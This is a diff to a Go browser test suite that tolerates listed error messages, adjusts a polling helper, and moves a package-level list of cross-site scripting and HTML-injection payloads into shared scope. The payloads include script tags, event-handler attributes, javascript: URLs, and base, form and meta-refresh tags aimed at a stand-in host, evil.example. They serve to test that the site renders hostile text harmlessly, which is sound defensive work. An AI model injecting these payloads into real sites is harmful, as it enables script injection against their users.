@@ -31,6 +31,8 @@ type reader struct {
 	t   *testing.T
 	tab context.Context
 
+	forgive []string // parts of the addresses of requests, or of reports, that may fail
+
 	mu       sync.Mutex
 	troubles []string
 }
@@ -89,8 +91,10 @@ func (r *reader) watch(event any) {
 	case *runtime.EventExceptionThrown:
 		r.troubles = append(r.troubles, fmt.Sprintf("a script failed: %s at %s", e.ExceptionDetails.Text, e.ExceptionDetails.URL))
 	case *cdplog.EventEntryAdded:
-		if e.Entry.Level == cdplog.EntryLevelError && !strings.Contains(e.Entry.URL, "/pictures/missing") {
-			r.troubles = append(r.troubles, "the browser reports: "+e.Entry.Text+" "+e.Entry.URL)
+		report := e.Entry.Text + " " + e.Entry.URL
+		forgiven := slices.ContainsFunc(append(r.forgive, "/pictures/missing"), func(part string) bool { return strings.Contains(report, part) })
+		if e.Entry.Level == cdplog.EntryLevelError && !forgiven {
+			r.troubles = append(r.troubles, "the browser reports: "+report)
 		}
 	}
 }
@@ -111,7 +115,7 @@ func (r *reader) open(address string) {
 // waitFor waits until a JavaScript expression is true.
 func (r *reader) waitFor(expression string) {
 	r.t.Helper()
-	if _, err := chromedp.Run(r.tab, chromedp.Poll[bool](expression, chromedp.WithPollingTimeout(20*time.Second))); err != nil {
+	if _, err := chromedp.Run(r.tab, chromedp.Poll[bool]("!!("+expression+")", chromedp.WithPollingTimeout(20*time.Second))); err != nil {
 		r.t.Fatalf("waiting for %s: %v", expression, err)
 	}
 }
@@ -291,18 +295,20 @@ func TestBrowserFillsThePlaceOfBrokenPictures(t *testing.T) {
 	}
 }
 
+// payloads are texts that try to become something else than text.
+var payloads = []string{
+	`<script>window.pwned=1</script>`, `</script><script>window.pwned=1</script>`, `<img src=x onerror=window.pwned=1>`,
+	`"><svg onload=window.pwned=1>`, `' onmouseover='window.pwned=1`, `" autofocus onfocus="window.pwned=1`,
+	`javascript:window.pwned=1`, `</title><script>window.pwned=1</script>`, `</textarea><iframe srcdoc="<script>parent.pwned=1</script>">`,
+	`<a href="javascript:window.pwned=1">x</a>`, `{{.}}`, `${window.pwned=1}`, `<!--`, `]]>`, `<math><mi xlink:href="data:x,<script>window.pwned=1</script>">`,
+	`<style>@import "https://evil.example/"</style>`, `<base href="https://evil.example/">`, `<form action="https://evil.example/"><button>`,
+	`<link rel=stylesheet href=https://evil.example/>`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
+	`<object data="javascript:window.pwned=1">`, `<video><source onerror="window.pwned=1">`, `<details open ontoggle=window.pwned=1>`,
+	"\u0000<b>\u2028\u2029", `\"-window.pwned=1-\"`, `&lt;script&gt;window.pwned=1&lt;/script&gt;`, "line\r\nbreak",
+}
+
 func TestBrowserRunsNothingHostile(t *testing.T) {
 	t.Parallel()
-	payloads := []string{
-		`<script>window.pwned=1</script>`, `</script><script>window.pwned=1</script>`, `<img src=x onerror=window.pwned=1>`,
-		`"><svg onload=window.pwned=1>`, `' onmouseover='window.pwned=1`, `" autofocus onfocus="window.pwned=1`,
-		`javascript:window.pwned=1`, `</title><script>window.pwned=1</script>`, `</textarea><iframe srcdoc="<script>parent.pwned=1</script>">`,
-		`<a href="javascript:window.pwned=1">x</a>`, `{{.}}`, `${window.pwned=1}`, `<!--`, `]]>`, `<math><mi xlink:href="data:x,<script>window.pwned=1</script>">`,
-		`<style>@import "https://evil.example/"</style>`, `<base href="https://evil.example/">`, `<form action="https://evil.example/"><button>`,
-		`<link rel=stylesheet href=https://evil.example/>`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
-		`<object data="javascript:window.pwned=1">`, `<video><source onerror="window.pwned=1">`, `<details open ontoggle=window.pwned=1>`,
-		"\u0000<b>\u2028\u2029", `\"-window.pwned=1-\"`, `&lt;script&gt;window.pwned=1&lt;/script&gt;`, "line\r\nbreak",
-	}
 	s := newSite(t, siteOptions{})
 	var list []*musette.Activity
 	for i, p := range payloads {
